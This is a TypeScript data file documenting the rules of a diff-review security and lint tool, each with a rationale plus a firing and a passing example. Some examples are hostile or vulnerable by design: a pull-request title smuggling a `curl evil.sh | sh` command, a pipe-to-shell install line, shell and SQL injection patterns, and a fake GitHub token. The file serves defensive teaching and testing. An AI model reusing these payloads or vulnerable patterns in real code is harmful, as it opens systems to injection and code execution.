// What each rule's documentation says beyond its summary and help: why it matters, and an
// example that fires and one that does not (checked against the engine by
// test/service/engine/rule-docs.test.ts, which also keeps docs/rules/ in step). Long by nature:
// one entry per rule, nothing else.

import type { EngineConfig } from '../types.ts';
import { secretKindsMarkdown } from './secrets/secret-kinds.ts';

/** A file of an example: its path (rules depend on it) and the lines the change adds. */
export interface RuleExample {
  path: string;
  lines: readonly string[];
}

export interface RuleDocData {
  /** Why the finding matters: what goes wrong if it is merged. */
  why: string;
  /** A change the rule reports. */
  fires: RuleExample;
  /** A close change it does not report. */
  passes: RuleExample;
  /** Further Markdown sections for the rule's page, made from its data (what it recognises). */
  more?: string;
  /** The configuration the examples are reviewed with, for a rule a setting turns on. */
  config?: EngineConfig;
}

/** A token that looks real, spelled so that no scanner reads this file as a leak. */
const SAMPLE_GITHUB_TOKEN = ['ghp', 'kR7vQ2mX9pLw4TzN8cY3hJ6dF1bG5sV0aE2u'].join('_');
const SAMPLE_KEY_LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7';

/** A GitHub Actions workflow run `on` one trigger, with one job of the given steps. */
const workflow = (on: string, steps: readonly string[]) => [
  `on: ${on}`,
  'jobs:',
  '  check:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  ...steps,
];
const CHECKOUT_HEAD = [
  '      - uses: actions/checkout@v4',
  '        with:',
  '          ref: ${{ github.event.pull_request.head.sha }}',
];

export const RULE_DOCS: Readonly<Record<string, RuleDocData>> = {
  secret: {
    why: 'A credential in a repository is readable by everyone who can read the repository, its forks and its history, for ever: removing it in a later commit does not take it back. Attackers scan public and leaked repositories for them within minutes.',
    fires: { path: 'src/release.ts', lines: [`const token = "${SAMPLE_GITHUB_TOKEN}";`] },
    passes: { path: 'src/release.ts', lines: ['const token = process.env.GITHUB_TOKEN;'] },
    more: secretKindsMarkdown(),
  },
  'no-private-key': {
    why: 'Whoever has the private key can impersonate the server or the user it belongs to, and decrypt what was encrypted for it.',
    fires: {
      path: 'deploy/server.key',
      lines: ['-----BEGIN PRIVATE KEY-----', SAMPLE_KEY_LINE, '-----END PRIVATE KEY-----'],
    },
    passes: { path: 'src/pem.ts', lines: ["if (pem.startsWith('-----BEGIN PRIVATE KEY-----')) return 'pkcs8';"] },
  },
  'no-env-file': {
    why: ".env files hold the secrets and settings of one machine; committed, they leak the secrets and override other machines' settings.",
    fires: { path: '.env', lines: ['# local settings', 'DATABASE_URL=postgres://localhost/app_dev'] },
    passes: { path: '.env.example', lines: ['DATABASE_URL='] },
  },
  'no-conflict-marker': {
    why: 'A merge conflict marker left in a file breaks the build at best and silently changes behaviour at worst (in data and configuration files).',
    fires: {
      path: 'src/config.ts',
      lines: [
        '<<<<<<< HEAD',
        'export const retries = 3;',
        '=======',
        'export const retries = 5;',
        '>>>>>>> feature/retries',
      ],
    },
    passes: { path: 'docs/guide.md', lines: ['Title', '======='] },
  },
  'no-focused-test': {
    why: 'A focused test makes the runner skip every other test of the file, so CI stays green while most tests no longer run.',
    fires: { path: 'src/cart.test.ts', lines: ["it.only('adds an item', () => {});"] },
    passes: { path: 'src/cart.test.ts', lines: ["it('adds an item', () => {});"] },
  },
  'no-unexplained-skip': {
    why: 'A skipped test without a reason is forgotten: nobody knows when it may come back, and the behaviour it checked goes untested.',
    fires: { path: 'tests/test_cart.py', lines: ['@pytest.mark.skip'] },
    passes: { path: 'tests/test_cart.py', lines: ['@pytest.mark.skip(reason="flaky on CI, see #12")'] },
  },
  'no-debugger': {
    why: 'A breakpoint left in code stops the program (or a worker, or CI) wherever a debugger or an interactive console is attached.',
    fires: { path: 'src/cart.js', lines: ['  debugger;'] },
    passes: { path: 'src/cart.js', lines: ['// the debugger stops here when enabled'] },
  },
  'no-dbg-macro': {
    why: 'dbg! prints to standard error in release builds too: a debugging leftover that leaks values into logs.',
    fires: { path: 'src/main.rs', lines: ['let total = dbg!(a + b);'] },
    passes: { path: 'src/main.rs', lines: ['let total = a + b;'] },
  },
  'no-console-log': {
    why: 'console.log in application code is usually a debugging leftover: output without a level that cannot be turned off, and sometimes data that should not be logged.',
    fires: { path: 'src/server/routes.ts', lines: ['console.log(user);'] },
    passes: { path: 'src/cli.ts', lines: ['console.log(result);'] },
  },
  'no-print': {
    why: 'print in library code writes to the standard output of every program that imports it.',
    fires: { path: 'mylib/core.py', lines: ['print(value)'] },
    passes: { path: 'mylib/__main__.py', lines: ['print(value)'] },
  },
  'no-blanket-eslint-disable': {
    why: 'An eslint-disable without a rule name turns off every rule, including the ones that would catch the next bug on that line.',
    fires: { path: 'src/cart.ts', lines: ['// eslint-disable-next-line'] },
    passes: { path: 'src/cart.ts', lines: ['// eslint-disable-next-line no-console -- CLI output'] },
  },
  'no-ts-ignore': {
    why: '@ts-ignore hides every type error on the next line, also those that appear later; @ts-expect-error fails once the error it expects is gone.',
    fires: { path: 'src/cart.ts', lines: ['// @ts-ignore'] },
    passes: { path: 'src/cart.ts', lines: ['// @ts-expect-error: the library types are wrong (#42)'] },
  },
  'no-blanket-type-ignore': {
    why: 'A bare "# type: ignore" or "# pyright: ignore" hides every type error on the line, also those that appear later.',
    fires: { path: 'pkg/cart.py', lines: ['total = compute()  # type: ignore'] },
    passes: { path: 'pkg/cart.py', lines: ['total = compute()  # type: ignore[attr-defined]'] },
  },
  'no-blanket-noqa': {
    why: 'A bare "# noqa" hides every lint warning on the line, also those that appear later.',
    fires: { path: 'pkg/cart.py', lines: ['import os  # noqa'] },
    passes: { path: 'pkg/cart.py', lines: ['import os  # noqa: F401'] },
  },
  'no-eval': {
    why: 'eval and new Function run a string as code: if any part of it comes from input, that is code injection.',
    fires: { path: 'src/calc.js', lines: ['const value = eval(input);'] },
    passes: { path: 'src/calc.js', lines: ['const value = JSON.parse(input);'] },
  },
  'no-shell-injection': {
    why: 'A shell command built from variables runs whatever the variables hold: a branch name or a file name can become a command.',
    fires: { path: 'src/git.js', lines: ['child_process.exec(`git log ${branch}`);'] },
    passes: { path: 'src/git.js', lines: ["execFile('git', ['log', branch]);"] },
  },
  'no-inner-html': {
    why: 'HTML inserted from a value runs any script the value carries (cross-site scripting).',
    fires: { path: 'src/view.js', lines: ['el.innerHTML = html;'] },
    passes: { path: 'src/view.js', lines: ['el.textContent = text;'] },
  },
  'no-unsafe-yaml-load': {
    why: 'yaml.load with the default or full Loader builds arbitrary Python objects from the document: loading an untrusted file runs code.',
    fires: { path: 'pkg/config.py', lines: ['data = yaml.load(stream)'] },
    passes: { path: 'pkg/config.py', lines: ['data = yaml.safe_load(stream)'] },
  },
  'no-pickle-loads': {
    why: 'Unpickling runs code chosen by whoever wrote the data.',
    fires: { path: 'pkg/cache.py', lines: ['obj = pickle.loads(body)'] },
    passes: { path: 'pkg/cache.py', lines: ['obj = json.loads(body)'] },
  },
  'no-tls-verify-off': {
    why: "Without certificate verification, anyone on the network path (a café Wi-Fi, a compromised router, a proxy) can read and change the traffic, credentials included. In YAML the rule reads the parsed settings (Kubernetes' insecureSkipTLSVerify and kubeconfig's insecure-skip-tls-verify, Prometheus' and Traefik's insecure_skip_verify, Ansible's validate_certs: no), in block and flow maps; comments and text that only mention them are not read.",
    fires: { path: 'src/client.ts', lines: ['const agent = new https.Agent({ rejectUnauthorized: false });'] },
    passes: { path: 'src/client.ts', lines: ['const agent = new https.Agent({ ca: internalCa });'] },
  },
  'no-sql-string-building': {
    why: "SQL text built from a value lets the value change the query: reading other users' rows, changing data, dropping tables. In JavaScript, TypeScript, Python, Go, Java, Ruby, PHP and C# the rule reads the code's syntax: a query built into a name and run lines later is found, on the line that runs it (or, when that line was already there, on the added line that built it); a column checked against a fixed list before it is used, and numbers, are fine.",
    fires: {
      path: 'app/users.py',
      lines: [
        'def find(cur, name):',
        '    q = "SELECT * FROM users WHERE name = \'%s\'" % name',
        '    return cur.execute(q)',
      ],
    },
    passes: {
      path: 'app/users.py',
      lines: ['def find(cur, name):', '    return cur.execute("SELECT * FROM users WHERE name = %s", (name,))'],
    },
  },
  'no-actions-script-injection': {
    why: 'GitHub pastes ${{ }} expressions into the script before the shell runs it: a pull request titled `"; curl evil.sh | sh; "` runs with the workflow\'s token and secrets.',
    fires: {
      path: '.github/workflows/triage.yml',
      lines: workflow('issues', ['      - run: echo "${{ github.event.issue.title }}"']),
    },
    passes: {
      path: '.github/workflows/triage.yml',
      lines: workflow('issues', [
        '      - run: echo "$TITLE"',
        '        env:',
        '          TITLE: ${{ github.event.issue.title }}',
      ]),
    },
  },
  'no-pull-request-target-checkout': {
    why: "pull_request_target runs with the base repository's secrets and a write token; checking out and building the pull request's code hands both to its author.",
    fires: { path: '.github/workflows/pr.yml', lines: workflow('pull_request_target', CHECKOUT_HEAD) },
    passes: { path: '.github/workflows/pr.yml', lines: workflow('pull_request', CHECKOUT_HEAD) },
  },
  'no-privileged-container': {
    why: "A privileged container (or one sharing the host's network or processes) can take over the host: a bug in the container becomes a compromise of the node.",
    fires: { path: 'k8s/deploy.yaml', lines: ['        securityContext:', '          privileged: true'] },
    passes: {
      path: 'k8s/deploy.yaml',
      lines: ['        securityContext:', '          allowPrivilegeEscalation: false'],
    },
  },
  'no-pipe-to-shell': {
    why: "Piping a download into a shell runs whatever the server sends at that moment, unchecked: a compromised server or mirror runs code on every machine that builds. Shell scripts, Dockerfiles' RUN commands and CI scripts (a workflow's run:, a GitLab job's script:) are read by the bash grammar, so a download kept in a variable and run later by eval, source or sh -c is found too.",
    fires: { path: 'scripts/install.sh', lines: ['curl -fsSL https://get.example.sh | sh'] },
    passes: {
      path: 'scripts/install.sh',
      lines: ['curl -fsSL https://get.example.sh -o install.sh', 'sha256sum -c install.sh.sha256 && sh install.sh'],
    },
  },
  'no-world-writable': {
    why: 'A file anyone may write can be changed by any local user or process: a program, a configuration or an upload folder becomes a way in.',
    fires: { path: 'scripts/setup.sh', lines: ['chmod -R 777 /var/www/uploads'] },
    passes: { path: 'scripts/setup.sh', lines: ['chmod 750 /var/www/uploads'] },
  },
  'no-cors-any-origin-credentials': {
    why: "With any origin allowed together with credentials, every website the user visits can call the API with the user's cookies and read the answers.",
    // diff-review-ignore no-cors-any-origin-credentials (documentation examples)
    fires: { path: 'src/server.ts', lines: ['app.use(cors({ origin: true, credentials: true }));'] },
    // diff-review-ignore no-cors-any-origin-credentials (documentation examples)
    passes: {
      path: 'src/server.ts',
      lines: ["app.use(cors({ origin: ['https://app.example.com'], credentials: true }));"],
    },
  },
  'no-debug-in-production': {
    why: "Debug pages show stack traces, settings and SQL to anyone; Flask's debugger on a public interface runs code for anyone who reaches it. Read in Python (Django's production settings, Flask's app.run), PHP (Laravel's APP_DEBUG set in code), ASP.NET's web.config (compilation debug) and Kubernetes workloads, parsed (a container's env with FLASK_ENV=development, FLASK_DEBUG, DJANGO_DEBUG or APP_DEBUG on); tests are not read.",
    fires: { path: 'app.py', lines: ["    app.run(host='0.0.0.0', port=5000, debug=True)"] },
    passes: { path: 'app.py', lines: ['    app.run(debug=True)'] },
  },
  'no-jwt-verify-off': {
    why: 'A token whose signature is not checked, or that may use the `none` algorithm, can be written by anyone: any user id, any role.',
    fires: { path: 'app/auth.py', lines: ['claims = jwt.decode(token, options={"verify_signature": False})'] },
    passes: { path: 'app/auth.py', lines: ['claims = jwt.decode(token, key, algorithms=["RS256"])'] },
  },
  'no-weak-hash': {
    why: 'MD5 and SHA-1 are fast and broken: password hashes made with them are cracked in bulk, and signatures made with them can be forged.',
    fires: { path: 'src/auth.js', lines: ["const hash = crypto.createHash('md5').update(password).digest('hex');"] },
    passes: { path: 'src/cache.js', lines: ["const etag = crypto.createHash('md5').update(body).digest('hex');"] },
  },
  'no-insecure-random': {
    why: 'Math.random is predictable: tokens, ids and secrets made from it can be guessed.',
    fires: { path: 'src/session.js', lines: ['const token = Math.random().toString(36).slice(2);'] },
    passes: { path: 'src/anim.js', lines: ['const jitter = Math.random() * 100;'] },
  },
  'todo-without-issue': {
    why: 'A TODO without an issue is not tracked: it stays in the code long after anyone remembers what it meant.',
    fires: { path: 'src/cart.ts', lines: ['// TODO: handle the empty case'] },
    passes: { path: 'src/cart.ts', lines: ['// TODO(#123): handle the empty case'] },
  },
  'generated-file': {
    why: 'Generated and vendored files are not reviewed by reading them; their changes come from their generator or their upstream.',
    fires: { path: 'src/api.ts', lines: ['// Code generated by protoc-gen-ts. DO NOT EDIT.', 'export const x = 1;'] },
    passes: { path: 'src/app.ts', lines: ['export const x = 1;'] },
  },
  'lockfile-without-manifest': {
    why: 'A lockfile that changes while its manifest does not usually means an accidental install or update.',
    fires: { path: 'package-lock.json', lines: ['{'] },
    passes: { path: 'src/app.ts', lines: ['export const x = 1;'] },
  },
  'suppression-invalid-date': {
    why: 'A suppression meant to end on a day that is not a date would never end: the finding it hides stays hidden long after the reason for it has gone.',
    fires: {
      path: 'src/checkout.js',
      lines: ['debugger; // diff-review-ignore no-debugger (staging only) until 2027-02-30'],
    },
    passes: {
      path: 'src/checkout.js',
      lines: ['debugger; // diff-review-ignore no-debugger (staging only) until 2027-02-28'],
    },
  },
  'suppression-without-reason': {
    why: 'A suppression nobody can explain cannot be audited: the next reader cannot tell a checked decision from a silenced warning. On only where the project asks for reasons (`suppressions: { require_reason: true }` in .diff-review.yml).',
    fires: { path: 'src/checkout.js', lines: ['debugger; // diff-review-ignore no-debugger'] },
    passes: {
      path: 'src/checkout.js',
      lines: ['debugger; // diff-review-ignore no-debugger (stepping through on staging)'],
    },
    config: { suppressions: { requireReason: true } },
  },
  'large-file': {
    why: 'A very large file in a change is hard to review and often data or a build output that belongs elsewhere.',
    fires: { path: 'data/export.csv', lines: Array.from({ length: 5001 }, (_, i) => `${i},row`) },
    passes: { path: 'data/export.csv', lines: ['0,row'] },
  },
};
